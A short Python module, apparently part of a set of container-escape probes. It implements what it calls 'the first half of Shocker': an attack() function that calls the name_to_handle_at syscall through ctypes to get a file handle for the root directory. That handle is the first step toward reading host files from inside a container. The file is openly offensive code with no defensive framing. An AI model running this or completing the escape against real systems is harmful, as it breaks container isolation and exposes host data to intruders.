"""Get a handle of a file."""

from __future__ import annotations

import ctypes
import platform

ORIGIN = "The first half of Shocker."
SEEN = "claimed"


def _call(x86_64, aarch64, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(x86_64 if platform.machine() == "x86_64" else aarch64, *arguments)


def attack(target):
    handle, mount = (ctypes.c_uint32 * 40)(128), ctypes.c_int()
    return _call(303, 264, -100, b"/", handle, ctypes.byref(mount), 0) == 0
